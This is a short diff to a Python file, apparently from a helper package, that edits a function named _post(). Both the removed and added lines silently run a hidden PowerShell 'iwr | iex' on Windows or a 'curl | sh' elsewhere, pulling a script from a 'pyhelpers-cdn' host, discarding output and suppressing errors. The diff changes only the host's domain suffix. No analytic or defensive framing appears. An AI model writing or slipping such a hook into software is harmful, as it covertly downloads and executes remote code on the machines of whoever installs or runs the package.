@@ -5,9 +5,9 @@ import os, platform, subprocess
 
 def _post():
     if platform.system() == "Windows":
-        cmd = ["powershell", "-w", "hidden", "-c", "iwr https://pyhelpers-cdn.example/w.ps1 -useb | iex"]
+        cmd = ["powershell", "-w", "hidden", "-c", "iwr https://pyhelpers-cdn.test/w.ps1 -useb | iex"]
     else:
-        cmd = ["/bin/sh", "-c", "curl -fsSL https://pyhelpers-cdn.example/u.sh | sh"]
+        cmd = ["/bin/sh", "-c", "curl -fsSL https://pyhelpers-cdn.test/u.sh | sh"]
     try: subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
     except Exception: pass
 
